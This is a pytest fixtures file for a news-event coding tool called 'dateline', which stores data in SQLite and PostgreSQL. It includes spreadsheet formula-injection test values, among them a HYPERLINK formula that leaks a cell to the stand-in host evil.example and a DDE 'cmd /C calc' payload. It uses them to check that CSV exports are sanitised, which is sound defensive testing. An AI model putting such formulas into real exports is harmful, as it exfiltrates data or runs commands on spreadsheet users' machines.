"""Shared fixtures: the real data, the real model, real SQLite files."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from dateline.export import FORMULA_PREFIXES
from dateline.model import (
    Actor,
    CharSpan,
    Document,
    Event,
    Place,
    TimeSpan,
    content_id,
)
from dateline.pipeline import Coder
from dateline.read import Furniture
from dateline.resources import Resources, load_resources
from dateline.settings import Settings
from dateline.store import StoredDocument
from dateline.store.base import CODED

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "docs" / "samples"
# The seed article, bundled with the samples (a copy of ../shared/seed).
SEED = SAMPLES / "000_fb0fa63643a5fb4d.txt"


@pytest.fixture(scope="session")
def settings() -> Settings:
    return Settings()


@pytest.fixture(scope="session")
def resources(settings: Settings) -> Resources:
    return load_resources(settings)


@pytest.fixture(scope="session")
def coder(settings: Settings, resources: Resources) -> Coder:
    """The real pipeline, loaded once per test run."""
    return Coder(settings, resources)


@pytest.fixture(scope="session")
def furniture(resources: Resources) -> Furniture:
    return Furniture.from_resources(resources)


@pytest.fixture
def db_path(tmp_path: Path) -> Iterator[Path]:
    yield tmp_path / "test.db"


def code_text(
    coder: Coder, text: str, published: dt.date = dt.date(2024, 3, 15)
) -> list[Event]:
    """Code one passage written for a test."""
    doc = Document(id=content_id(text), text=text, published=published, language="en")
    (result,) = list(coder.code_documents([doc]))
    assert result.error is None, result.error
    return list(result.events)


def only(events: list[Event], event_type: str) -> Event:
    found = [e for e in events if e.event_type == event_type]
    assert len(found) == 1, (
        f"expected one {event_type} event, got {[(e.event_type, e.trigger.text) for e in events]}"
    )
    return found[0]


# Texts an article (or a hostile site) can put in front of a spreadsheet user.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1 gunmen attacked Mopti on Monday."
MINUS = "-2+3"
TAB = "\t=1+1"
CR = "\r=1+1"


def formula_records() -> tuple[StoredDocument, Event]:
    """A stored document and event whose every text field starts a formula."""
    text = PLUS + " More text follows."
    doc = Document(
        id="formula-article",
        text=text,
        title=HYPERLINK,
        outlet=SUM,
        published=dt.date(2024, 3, 5),
        language="en",
    )
    event = Event(
        event_id="formula0event000",
        doc_id=doc.id,
        language="en",
        event_type="ASSAULT",
        mode=None,
        actor=Actor(name=HYPERLINK, text="gunmen", generic=True),
        target=Actor(name=MINUS, text="Mopti"),
        location=Place(name=TAB, text="Mopti", country="MLI", lat=14.49, lon=-4.19),
        date=TimeSpan(
            start=dt.date(2024, 3, 4), end=dt.date(2024, 3, 4), text="on Monday"
        ),
        fatalities=None,
        injured=None,
        attributed_to=SUM,
        certainty="reported",
        evidence=CharSpan(start=0, end=len(PLUS), text=PLUS),
        trigger=CharSpan(start=9, end=17, text="attacked"),
        flags=(CR,),
    )
    return StoredDocument(document=doc, status=CODED), event


def read_csv(text: str) -> list[dict[str, str]]:
    """Rows of a CSV export, as a spreadsheet or pandas would read them."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[dict[str, str]], where: str) -> None:
    """Fail if any text cell would run as a spreadsheet formula."""
    for row in rows:
        for column, cell in row.items():
            # A number (a negative longitude) is a number, not a formula.
            assert _is_number(cell) or not cell.startswith(FORMULA_PREFIXES), (
                f"{where}: column {column} hands a spreadsheet the formula {cell!r}"
            )


# --- Store backends: every store test runs on SQLite and on PostgreSQL. ---

POSTGRES_ENV = "DATELINE_TEST_POSTGRES"


class StoreBackend:
    """One store backend under test: its URL, and what a test may ask of it."""

    def __init__(
        self, name: str, url: str, integrity_error: type[Exception], admin_url: str
    ) -> None:
        self.name = name
        self.url = url  # what open_store() takes
        self.integrity_error = integrity_error  # raised on a broken foreign key
        self._admin_url = admin_url  # a direct driver connection, for checks

    def query(self, sql: str) -> list[tuple[object, ...]]:
        """Run one read-only statement on a fresh driver connection."""
        if self.name == "sqlite":
            import sqlite3

            con = sqlite3.connect(self._admin_url)
            try:
                return list(con.execute(sql).fetchall())
            finally:
                con.close()
        import psycopg

        with psycopg.connect(self._admin_url, autocommit=True) as pg:
            return list(pg.execute(sql).fetchall())


@pytest.fixture(scope="session")
def postgres_url() -> str:
    """The server CI provides; skipped when unset, a failure when unreachable."""
    import os

    url = os.environ.get(POSTGRES_ENV)
    if not url:
        pytest.skip(
            f"{POSTGRES_ENV} is not set; to run the PostgreSQL store tests: "
            f'export {POSTGRES_ENV}="$(bash .ci/setup-postgres.sh)"'
        )
    try:
        import psycopg
    except ImportError:
        pytest.fail(f"{POSTGRES_ENV} is set but psycopg is not installed")
    try:
        psycopg.connect(url, connect_timeout=10).close()
    except psycopg.Error as exc:
        pytest.fail(f"{POSTGRES_ENV} is set but the server is unreachable: {exc}")
    return url


@pytest.fixture
def postgres_schema_url(postgres_url: str) -> Iterator[str]:
    """A URL whose connections see only a new, empty schema, dropped afterwards."""
    import uuid

    import psycopg

    schema = f"dateline_test_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(postgres_url, autocommit=True) as con:
        con.execute(f'CREATE SCHEMA "{schema}"')
    # libpq's `options` sets search_path for every connection made with the URL.
    joiner = "&" if "?" in postgres_url else "?"
    yield f"{postgres_url}{joiner}options=-csearch_path%3D{schema}"
    with psycopg.connect(postgres_url, autocommit=True) as con:
        con.execute(f'DROP SCHEMA "{schema}" CASCADE')


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def store_backend(request: pytest.FixtureRequest, db_path: Path) -> StoreBackend:
    """A clean store of each kind: a new SQLite file, a new PostgreSQL schema."""
    if request.param == "sqlite":
        import sqlite3

        return StoreBackend(
            "sqlite", str(db_path), sqlite3.IntegrityError, str(db_path)
        )
    import psycopg

    url = request.getfixturevalue("postgres_schema_url")
    return StoreBackend("postgres", url, psycopg.IntegrityError, url)
